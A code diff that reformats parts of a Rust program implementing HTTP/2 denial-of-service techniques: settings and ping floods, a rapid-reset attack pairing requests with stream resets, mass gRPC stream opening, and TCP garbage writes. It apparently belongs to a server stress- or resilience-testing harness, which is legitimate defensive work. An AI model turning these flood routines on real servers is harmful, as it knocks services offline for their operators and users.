@@ -76,7 +76,9 @@ fn flood(field: &Field, until: Instant, burst: fn(u32, &Target) -> Vec<u8>) -> R
                 let (mut read, mut write) = tokio::io::split(io);
                 let sending = async {
                     for n in 0.. {
-                        if write.write_all(&burst(n, &target)).await.is_err() || write.flush().await.is_err() {
+                        if write.write_all(&burst(n, &target)).await.is_err()
+                            || write.flush().await.is_err()
+                        {
                             break;
                         }
                         sleep(PAUSE).await;
@@ -95,7 +97,9 @@ fn flood(field: &Field, until: Instant, burst: fn(u32, &Target) -> Vec<u8>) -> R
 
 fn settings_flood(field: &Field, until: Instant) -> Result<Held> {
     // The size of the table of headers, which the other side must take note of.
-    flood(field, until, |_, _| (0..BURST).flat_map(|n| frames::settings(&[(1, 4096 - n)])).collect())
+    flood(field, until, |_, _| {
+        (0..BURST).flat_map(|n| frames::settings(&[(1, 4096 - n)])).collect()
+    })
 }
 
 fn ping_flood(field: &Field, until: Instant) -> Result<Held> {
@@ -105,7 +109,13 @@ fn ping_flood(field: &Field, until: Instant) -> Result<Held> {
 fn rapid_reset(field: &Field, until: Instant) -> Result<Held> {
     flood(field, until, |burst, target| {
         let streams = (0..BURST).map(|n| 1 + 2 * (burst * BURST + n));
-        let each = |stream| [frames::request(stream, "POST", target.authority, target.path, false), frames::reset(stream)].concat();
+        let each = |stream| {
+            [
+                frames::request(stream, "POST", target.authority, target.path, false),
+                frames::reset(stream),
+            ]
+            .concat()
+        };
         streams.flat_map(each).collect()
     })
 }
@@ -119,7 +129,10 @@ fn thousand_streams(field: &Field, until: Instant) -> Result<Held> {
                 let mut settings = h2::client::Builder::new();
                 settings.initial_max_send_streams(STREAMS);
                 let sender = grpc::http2_with(target.door.open().await?, &settings).await?;
-                grpc::keep(&visitor, sender, STREAMS, |sender| grpc::begin_now(sender, target.authority, target.path)).await
+                grpc::keep(&visitor, sender, STREAMS, |sender| {
+                    grpc::begin_now(sender, target.authority, target.path)
+                })
+                .await
             }
         })
         .await
@@ -136,7 +149,8 @@ fn garbage(field: &Field, until: Instant) -> Result<Held> {
                 visitor.opened();
                 let mut number = 0x9e37_79b9_7f4a_7c15 ^ visitor.number as u64;
                 for _ in 0..64 {
-                    let bytes: Vec<u8> = (0..128).flat_map(|_| next(&mut number).to_le_bytes()).collect();
+                    let bytes: Vec<u8> =
+                        (0..128).flat_map(|_| next(&mut number).to_le_bytes()).collect();
                     tcp.write_all(&bytes).await?;
                     sleep(PAUSE).await;
                 }
